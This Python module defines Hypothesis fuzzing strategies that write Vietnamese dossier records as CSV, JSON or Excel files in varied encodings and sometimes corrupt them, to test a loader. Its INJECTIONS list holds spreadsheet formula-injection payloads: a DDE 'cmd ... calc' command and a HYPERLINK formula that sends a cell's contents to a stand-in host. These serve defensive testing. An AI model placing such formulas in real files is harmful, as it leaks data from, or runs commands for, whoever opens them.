"""Hypothesis strategies for the loader's fuzzing (tests/test_fuzz_loader.py): records known good or
known bad, written as CSV, JSON or .xlsx files in many encodings and header spellings, then maybe
damaged; each case knows the bytes of each of its records and what the loader must make of them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from dataclasses import dataclass, field

import polars as pl
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from tests.load_helpers import VI, to_cp1258

S, H = "000.00.01.H22", "000.00.21.H22"
REQUIRED = ["MaHoSo", "MaDonViXuLy", "TrangThaiHoSo", "NgayTiepNhan", "KenhThucHien"]
OPTIONAL = ["MaTTHC", "TenTTHC", "NgayHenTra", "DonViXuLy"]         # may be left out of a file
COLUMNS = REQUIRED + ["NgayKetThucXuLy"] + OPTIONAL
EXTRA = {"GhiChu": "Ghi chú", "ChuHoSo": "Họ tên"}                 # unknown, and personal data
FORMULA = ["=", "+", "-", "@"]
INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "=cmd|' /C calc'!A0", "+84 912 345 678",
              "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "==", "+", "-", "@"]
HUGE = 1 << 20
TOKEN = "FZ"                          # in every dossier id the strategies write

settings.register_profile("fuzz", deadline=None, database=None, derandomize=True, report_multiple_bugs=False,
                          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                                 HealthCheck.large_base_example])


# ---- records -----------------------------------------------------------------------------------

def _short(value) -> str:
    text = repr(value)
    return text if len(text) < 300 else text[:150] + f"…[{len(text)} characters]…" + text[-60:]


@dataclass
class Record:
    values: dict[str, str]          # sync field -> text as written
    good: bool
    bad_field: str | None = None    # the field the quarantine must name
    stored: tuple | None = None     # (status, channel, agency, received, finished) for a good one

    def __repr__(self) -> str:
        values = {k: _short(v) for k, v in self.values.items()}
        return f"Record({values}, good={self.good}, bad_field={self.bad_field}, stored={self.stored})"


DATE_WRITERS = [lambda d: d.strftime("%d/%m/%Y %H:%M"), lambda d: d.strftime("%Y%m%d%H%M%S"),
                lambda d: d.strftime("%d/%m/%Y %H:%M:%S"), lambda d: d.isoformat()]


@st.composite
def good_record(draw, dossier_id: str) -> Record:
    day, hour, minute = draw(st.integers(1, 27)), draw(st.integers(7, 16)), draw(st.sampled_from([0, 15, 30]))
    received = dt.datetime(2025, 3, day, hour, minute)
    finished = None
    status = draw(st.sampled_from([2, 4, 5, 9, 10]))
    if status in (9, 10):
        finished = received + dt.timedelta(days=draw(st.integers(0, 20)), hours=draw(st.integers(0, 1)))
    channel, agency = draw(st.integers(1, 3)), draw(st.sampled_from([S, H, "X.77", "Z-UNKNOWN"]))
    write = draw(st.sampled_from(DATE_WRITERS))
    name = draw(st.one_of(st.sampled_from(["Cấp phiếu lý lịch tư pháp", "Chứng thực bản sao", ""]),
                          st.sampled_from(INJECTIONS),
                          st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")),
                                  max_size=30)))
    values = {
        "MaHoSo": dossier_id, "MaDonViXuLy": agency, "TrangThaiHoSo": str(status),
        "NgayTiepNhan": write(received), "KenhThucHien": str(channel),
        "NgayKetThucXuLy": write(finished) if finished else "",
        "MaTTHC": "1.001230", "TenTTHC": name,
        "NgayHenTra": (received + dt.timedelta(days=25)).strftime("%d/%m/%Y"),
        "DonViXuLy": draw(st.sampled_from(["Sở Tư pháp", "UBND xã \"Đông Hà\"", "Ban; quản lý, dự án",
                                           *INJECTIONS])),
        "GhiChu": draw(st.sampled_from(["", "ghi chú\nhai dòng", *INJECTIONS])),
        "ChuHoSo": "Nguyễn Văn A",
    }
    return Record(values, True, stored=(status, channel, agency, received, finished))


BAD_KINDS = {
    # kind -> (field named in quarantine, change to a good record)
    "status": ("TrangThaiHoSo", {"TrangThaiHoSo": "42"}),
    "channel": ("KenhThucHien", {"KenhThucHien": "9"}),
    "date": ("NgayTiepNhan", {"NgayTiepNhan": "31/02/2025 08:00"}),
    "future": ("NgayTiepNhan", {"NgayTiepNhan": "05/01/2026 08:00"}),
    "order": ("NgayKetThucXuLy", {"TrangThaiHoSo": "10", "NgayTiepNhan": "20/03/2025 08:00",
                                  "NgayKetThucXuLy": "10/03/2025 08:00"}),
    "no_agency": ("MaDonViXuLy", {"MaDonViXuLy": ""}),
    "no_id": ("MaHoSo", {"MaHoSo": ""}),
}


@st.composite
def bad_record(draw, dossier_id: str) -> Record:
    base = draw(good_record(dossier_id))
    kind = draw(st.sampled_from(sorted(BAD_KINDS)))
    bad_field, change = BAD_KINDS[kind]
    return Record({**base.values, **change}, False, bad_field=bad_field)


@st.composite
def record_set(draw, token: str, allow_huge: bool) -> list[Record]:
    """Good and bad records in a random order; some ids twice (a later state, or a bad record)."""
    ids = [f"{draw(st.sampled_from(['', *FORMULA]))}{token}-{k}" for k in range(draw(st.integers(1, 6)))]
    records = [draw(good_record(i)) for i in ids]
    records += [draw(bad_record(f"{token}-B{k}")) for k in range(draw(st.integers(0, 4)))]
    for i in draw(st.lists(st.sampled_from(ids), max_size=2)):       # the same dossier again
        records.append(draw(st.one_of(good_record(i), bad_record(i))))
    records = draw(st.permutations(records))
    if allow_huge and draw(st.integers(0, 19)) == 0:
        target = draw(st.sampled_from(records))
        target.values[draw(st.sampled_from(["TenTTHC", "GhiChu"]))] = "=" + "x" * HUGE
    return records


# ---- files ----------------------------------------------------------------------------------

@dataclass
class Case:
    fmt: str
    token: str                              # in every dossier id of the file
    encoding: str
    records: list[Record]
    data: bytes = b""
    spans: list[tuple[int, int]] = field(default_factory=list)   # bytes of each record in `data`
    damage: str = "none"                    # none | truncate | overwrite | insert | encoding
    dropped_required: str | None = None
    cut: tuple[int, int] | None = None      # bytes changed by the damage

    def __repr__(self) -> str:
        return (f"Case({self.fmt}, {self.encoding}, damage={self.damage}, cut={self.cut}, "
                f"dropped={self.dropped_required}, spans={self.spans}, records={self.records}, "
                f"data={_short(self.data)})")


def header_name(draw, column: str) -> str:
    sync = column
    vi = VI.get(column) or EXTRA.get(column, column)
    return draw(st.sampled_from([sync, vi, vi.upper(), sync.lower()]))


def encode(text: str, encoding: str, first: bool = False) -> bytes:
    """One piece of a file; UTF-16 has its byte-order mark at the start of the file only."""
    if encoding == "cp1258":   # as a vendor's export in Windows-1258: what it cannot hold becomes '?'
        return b"".join(_cp1258_char(ch) for ch in text)
    if encoding == "latin-1":
        return text.encode("latin-1", errors="replace")
    if encoding == "utf-16":
        return text.encode("utf-16" if first else "utf-16-le")
    if encoding == "utf-8-sig" and not first:
        return text.encode("utf-8")
    return text.encode(encoding)


def _cp1258_char(ch: str) -> bytes:
    try:
        return to_cp1258(ch)
    except UnicodeEncodeError:
        return b"?"


@st.composite
def columns_of(draw) -> tuple[list[str], str | None]:
    cols = COLUMNS[:5] + ["NgayKetThucXuLy"] + [c for c in OPTIONAL if draw(st.booleans())]
    cols += [c for c in EXTRA if draw(st.booleans())]
    dropped = None
    if draw(st.integers(0, 9)) == 0:
        dropped = draw(st.sampled_from(REQUIRED))
        cols.remove(dropped)
    return draw(st.permutations(cols)), dropped


@st.composite
def csv_case(draw) -> Case:
    token = TOKEN
    records = draw(record_set(token, allow_huge=True))
    cols, dropped = draw(columns_of())
    sep = draw(st.sampled_from([",", ";", "\t"]))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1258", "utf-8", "latin-1", "utf-16"]))
    names = [header_name(draw, c) for c in cols]

    def line(values: list[str]) -> str:
        # the terminator tells csv which characters need quotes (with "" a value's newline went bare)
        buf = io.StringIO()
        csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerow(values)
        return buf.getvalue()[:-2]

    case = Case("csv", token, encoding, records, dropped_required=dropped)
    data = encode(line(names) + newline, encoding, first=True)
    for r in records:
        chunk = encode(line([r.values.get(c, "") for c in cols]), encoding)
        case.spans.append((len(data), len(data) + len(chunk)))
        data += chunk + encode(newline, encoding)
    case.data = data
    if encoding in ("latin-1", "utf-16"):
        case.damage = "encoding"
    return draw(damaged(case))


@st.composite
def json_case(draw) -> Case:
    token = TOKEN
    records = draw(record_set(token, allow_huge=True))
    cols, dropped = draw(columns_of())
    names = {c: header_name(draw, c) for c in cols}
    layout = draw(st.sampled_from(["array", "envelope", "ndjson"]))
    ascii_only = draw(st.booleans())
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-8", "utf-16"]))

    def obj(r: Record) -> str:
        # an empty value is left out of the record, as sync records do
        return json.dumps({names[c]: r.values[c] for c in cols if r.values.get(c, "") != ""},
                          ensure_ascii=ascii_only)

    head, sep, tail = {"array": ("[\n", ",\n", "\n]\n"),
                       "envelope": ('{"service": "DongBoHoSoMC", "isUpdating": false, "data": [\n',
                                    ",\n", "\n]}\n"),
                       "ndjson": ("", "\n", "\n")}[layout]
    case = Case(layout, token, encoding, records, dropped_required=dropped)
    data = encode(head, encoding, first=True)
    for k, r in enumerate(records):
        if k:
            data += encode(sep, encoding)
        chunk = encode(obj(r), encoding, first=not data)
        case.spans.append((len(data), len(data) + len(chunk)))
        data += chunk
    case.data = data + encode(tail, encoding)
    if encoding == "utf-16":
        case.damage = "encoding"
    return draw(damaged(case))


@st.composite
def xlsx_case(draw) -> Case:
    token = TOKEN
    records = draw(record_set(token, allow_huge=False))      # an Excel cell holds at most 32,767 characters
    cols, dropped = draw(columns_of())
    names = [header_name(draw, c) for c in cols]
    frame = pl.DataFrame({n: [r.values.get(c, "") or None for r in records] for n, c in zip(names, cols)},
                         schema={n: pl.String for n in names})
    buf = io.BytesIO()
    frame.write_excel(buf)
    case = Case("xlsx", token, "xlsx", records, data=buf.getvalue(), dropped_required=dropped)
    return draw(damaged(case))


@st.composite
def damaged(draw, case: Case) -> Case:
    """Maybe damage the bytes: cut short, overwrite some, insert some."""
    kind = draw(st.sampled_from(["none", "none", "truncate", "overwrite", "insert"]))
    if kind == "none" or not case.data:
        return case
    n = len(case.data)
    # a place given as a fraction of the file: an .xlsx is not byte-for-byte the same twice (its
    # timestamp), and what hypothesis draws must not depend on its length
    at = draw(st.integers(0, 1 << 20)) * (n - 1) >> 20
    if kind == "truncate":
        case.data, case.cut = case.data[:at], (at, n)
    else:
        junk = draw(st.binary(min_size=1, max_size=8)
                    | st.sampled_from([b'"', b"\n", b";", b",", b"\x00", b"\xff"]))
        if kind == "overwrite":
            case.data = case.data[:at] + junk + case.data[at + len(junk):]
        else:
            case.data = case.data[:at] + junk + case.data[at:]
        case.cut = (at, at + len(junk))
    case.damage = kind if case.damage == "none" else case.damage + "+" + kind
    return case
